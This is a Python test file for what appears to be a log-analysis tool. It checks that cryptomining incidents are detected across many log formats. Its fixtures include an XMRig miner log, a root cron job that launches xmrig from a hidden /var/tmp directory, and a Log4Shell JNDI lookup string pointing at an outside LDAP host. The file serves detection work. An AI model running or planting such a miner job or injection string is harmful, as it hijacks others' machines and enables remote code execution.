"""A miner's own lines and a job's, carried in every way people ship logs: who wrote them and what they say is read."""

from __future__ import annotations

import csv
import io
import json
import struct
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from kanaria.app.commands.main import cli
from kanaria.core.stream import ReadContext
from kanaria.formats import registry
from kanaria.formats.carriers.wrapped import Wrapped
from kanaria.formats.unknown import UNKNOWN
from tests.reading_formats import BytesStream, read_all

START = datetime(2026, 1, 10, 9, tzinfo=UTC)
MINER = (
    " * ABOUT        XMRig/6.21.0 gcc/13.2.1",
    "[2026-01-10 09:00:07.120]  net      use pool pool.example.org:10128  203.0.113.50",
    "[2026-01-10 09:00:08.121]  net      new job from pool.example.org:10128 diff 10000 algo rx/0 height 3",
    "[2026-01-10 09:00:31.500]  cpu      accepted (1/0) diff 10000 (54 ms)",
)
JOB = ("(root) CMD (/var/tmp/.x/xmrig -o pool.example.org:3333)",)

Lines = tuple[str, ...]


def _iso(place: int) -> str:
    return (START + timedelta(seconds=place)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def _entry(place: int, line: str, program: str) -> dict[str, str]:
    micros = int((START + timedelta(seconds=place)).timestamp() * 1e6)
    return {"__CURSOR": f"s=1;i={place}", "__REALTIME_TIMESTAMP": str(micros), "_HOSTNAME": "web01",
            "SYSLOG_IDENTIFIER": program, "_PID": "4021", "MESSAGE": line}  # fmt: skip


def _objects(make: Callable[[int, str, str], object]) -> Callable[[Lines, str], bytes]:
    return lambda lines, program: b"".join(
        json.dumps(make(place, line, program)).encode() + b"\n" for place, line in enumerate(lines)
    )


def _export(lines: Lines, program: str) -> bytes:
    """Every second message with colours, for which journald chooses the binary form."""
    found = b""
    for place, line in enumerate(lines):
        for name, value in _entry(place, line, program).items():
            coloured = f"\x1b[1m{value}\x1b[0m".encode()
            binary = name == "MESSAGE" and place % 2 == 0
            found += (
                b"MESSAGE\n" + struct.pack("<Q", len(coloured)) + coloured if binary else f"{name}={value}".encode()
            ) + b"\n"
        found += b"\n"
    return found


def _verbose(lines: Lines, program: str) -> bytes:
    return "".join(
        f"Sat 2026-01-10 09:00:{place:02}.000000 UTC [s=1;i={place}]\n"
        + "".join(f"    {name}={value}\n" for name, value in _entry(place, line, program).items() if name[:2] != "__")
        for place, line in enumerate(lines)
    ).encode()


def _csv(header: Lines, make: Callable[[int, str, str], Lines]) -> Callable[[Lines, str], bytes]:
    def write(lines: Lines, program: str) -> bytes:
        text = io.StringIO()
        rows = csv.writer(text, quoting=csv.QUOTE_ALL)
        rows.writerows([header, *(make(place, line, program) for place, line in enumerate(lines))])
        return text.getvalue().encode()

    return write


def _ecs(place: int, line: str, program: str) -> dict[str, object]:
    return {"@timestamp": _iso(place), "host": {"name": "web01"}, "process": {"name": program}, "message": line}


CARRIERS: dict[str, Callable[[Lines, str], bytes]] = {
    "journal-json": _objects(_entry),
    "journal-export": _export,
    "journal-verbose": _verbose,
    "journal-sse": lambda lines, program: b"".join(
        b"data: " + line + b"\n\n" for line in _objects(_entry)(lines, program).splitlines()
    ),
    "ecs": _objects(_ecs),
    "elasticsearch-document": _objects(lambda *one: {"_index": "logs", "_id": "1", "_source": _ecs(*one)}),
    "elasticsearch-answer": lambda lines, program: json.dumps(
        {"took": 3, "hits": {"total": {"value": len(lines)},
                             "hits": [{"_id": "1", "_source": _ecs(place, line, program)} for place, line in enumerate(lines)]}}
    ).encode(),
    "cloud-logging": lambda lines, program: json.dumps(
        [{"timestamp": _iso(place), "textPayload": f"{line}", "labels": {"host": "web01"}, "program": program}
         for place, line in enumerate(lines)], indent=2
    ).encode(),
    "gelf": _objects(lambda place, line, program: {"version": "1.1", "host": "web01", "short_message": line,
                                                   "timestamp": START.timestamp() + place, "program": program}),
    "loki": _objects(lambda place, line, program: {"labels": {"host": "web01", "container": program}, "line": line,
                                                   "timestamp": _iso(place)}),
    "wazuh": _objects(lambda place, line, program: {"timestamp": _iso(place), "agent": {"name": "agent7"},
                                                    "predecoder": {"hostname": "web01", "program_name": program},
                                                    "full_log": f"Jan 10 09:00:{place:02} web01 {program}[1]: {line}"}),
    "splunk-json": _objects(lambda place, line, program: {"result": {"_raw": line, "_time": _iso(place), "host": "web01",
                                                                     "program": program}}),
    "splunk-csv": _csv(("_time", "host", "source", "_raw"), lambda place, line, program: (
        _iso(place), "web01", "/var/log/syslog", f"Jan 10 09:00:{place:02} web01 {program}[1]: {line}")),
    "kibana-csv": _csv(("@timestamp", "host.name", "process.name", "message"),
                       lambda place, line, program: (_iso(place), "web01", program, line)),
}  # fmt: skip


@pytest.mark.parametrize("carrier", CARRIERS)
def test_a_miners_log_is_read_in_what_carries_it(carrier: str) -> None:
    data = CARRIERS[carrier](MINER, "app")
    known = registry.detect(BytesStream(data))
    assert known is not None
    rows = read_all(known, data, context=ReadContext(year=2026)).rows_of("miner")
    assert [(row["host_name"], row["pool"], row["accepted"]) for row in rows] == [("web01", "pool.example.org", 1)]


@pytest.mark.parametrize("carrier", CARRIERS)
def test_a_job_is_read_in_what_carries_it(carrier: str) -> None:
    data = CARRIERS[carrier](JOB * 3, "CRON")
    known = registry.detect(BytesStream(data))
    assert known is not None
    rows = read_all(known, data, context=ReadContext(year=2026)).rows_of("process")
    assert {(row["host_name"], row["kind"], row["user"]) for row in rows} == {("web01", "job", "root")}


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("Out of memory: Killed process 4021 (xmrig) total-vm:2500000kB", "miner_program_started"),
        ("pulling image example/xmrig:latest", "mining_program_named_in_log"),
        ("  www-data : TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/tmp/xmrig -k", "miner_program_started"),
    ],
)
@pytest.mark.parametrize("carrier", ["journal-export", "elasticsearch-answer", "gelf"])
def test_a_line_of_an_unknown_program_is_searched_with_its_machine(
    tmp_path: Path, carrier: str, line: str, rule: str
) -> None:
    file = tmp_path / "a.log"
    file.write_bytes(CARRIERS[carrier]((line,), "container-1"))
    result = CliRunner().invoke(cli, ["analyze", str(file), "--format", "json"], standalone_mode=False)
    (incident,) = json.loads(result.stdout)["incidents"]
    assert rule in {finding["rule"] for finding in incident["findings"]}
    assert incident["entities"]["devices"] == ["web01"]


@pytest.mark.parametrize(
    "time", ["Infinity", "-inf", "nan", 1e308, "1e999", "9" * 400, 10**400, {}, [], True], ids=lambda one: str(one)[:9]
)
def test_a_time_that_is_none_is_none(time: object) -> None:
    data = json.dumps({"host": "web01", "program": "app", "time": time, "message": MINER[0]}).encode() + b"\n"
    known = registry.detect(BytesStream(data))
    assert known is None or read_all(known, data, context=ReadContext(year=2026)).rows == 1


@given(st.sampled_from(sorted(CARRIERS)), st.binary(max_size=40), st.integers(0, 900), st.integers(0, 900))
def test_damaged_carriers_give_rows_or_nothing(carrier: str, noise: bytes, place: int, end: int) -> None:
    whole = CARRIERS[carrier](MINER, "app")
    data = whole[:place] + noise + whole[place : place + end]
    for known in (Wrapped(), UNKNOWN):
        for batch in known.read(BytesStream(data), ReadContext()):
            assert batch.rows >= 0


LINE = '198.51.100.7 - - [10/Jan/2026:09:00:00 +0000] "GET /?x=${jndi:ldap://192.0.2.9/a} HTTP/1.1" 200 157 "-" "-"'


@pytest.mark.parametrize("own", range(11))
def test_lines_in_alerts_are_read_beside_what_wazuh_says_itself(own: int) -> None:
    """Whatever share of the alerts are of its own rules about mining, with and without a line in them."""
    of_wazuh = [
        {"timestamp": _iso(place), "rule": {"level": 12, "id": "100200", "groups": ["cryptomining"]},
         "agent": {"name": "srv1"}, **({"full_log": LINE} if place % 2 else {})}
        for place in range(own)
    ]  # fmt: skip
    others = [
        {"timestamp": _iso(place), "rule": {"level": 3, "id": "31101"}, "agent": {"name": "web01"}, "full_log": LINE}
        for place in range(10 - own)
    ]
    data = b"".join(json.dumps(one).encode() + b"\n" for one in of_wazuh + others)
    known = registry.detect(BytesStream(data))
    assert known is not None
    found = read_all(known, data, context=ReadContext(year=2026))
    assert len(found.rows_of("alert")) == own
    assert len(found.rows_of("http")) == 10 - own + own // 2
    assert sum(batch.unread for batch in found.batches) == 0


@pytest.mark.parametrize("first", [0, 1], ids=["socket first", "a big page first"])
@pytest.mark.parametrize("answered", [True, False])
def test_a_browsers_archive_tells_what_was_asked_and_said(tmp_path: Path, answered: bool, first: int) -> None:
    """Requests are of whoever browsed, to the hosts in them; mining on a WebSocket is the browser's."""
    asked = {"method": "GET", "url": "wss://pool.example.org/proxy", "httpVersion": "http/1.1",
             "headers": [{"name": "User-Agent", "value": "ExampleBrowser/1"}]}  # fmt: skip
    said = [{"type": "send", "time": 1.0, "opcode": 1, "data": json.dumps({"type": "auth", "params": {"site_key": "a"}})},
            {"type": "receive", "time": 1.1, "opcode": 1,
             "data": json.dumps({"type": "job", "params": {"job_id": "1", "blob": "06" * 76, "target": "ffffff00"}})}]  # fmt: skip
    socket = {"startedDateTime": _iso(0), "time": 3.5, "request": asked, "response": {"status": 101},
              "serverIPAddress": "203.0.113.50", "_webSocketMessages": said if answered else said[:1]}  # fmt: skip
    page = {"startedDateTime": _iso(1), "time": 3.5, "request": {**asked, "url": "https://www.example.org/"},
            "response": {"status": 200, "content": {"size": 9 << 20, "text": "x" * (2 << 20)}}}  # fmt: skip
    file = tmp_path / "a.har"
    file.write_text(
        json.dumps({"log": {"version": "1.2", "pages": [], "entries": [socket, page][:: -1 if first else 1]}})
    )
    result = CliRunner().invoke(cli, ["analyze", str(file), "--format", "json"], standalone_mode=False)
    document = json.loads(result.stdout)
    (incident,) = document["incidents"]
    rules = {finding["rule"] for finding in incident["findings"]}
    assert incident["entities"]["devices"] == ["browser"]
    assert "203.0.113.50" in incident["entities"]["remotes"]
    assert "mining_message_unanswered" not in rules if answered else "mining_message_unanswered" in rules
    assert (document["coverage"]["records"], document["coverage"]["unread"]) == (2, 0)
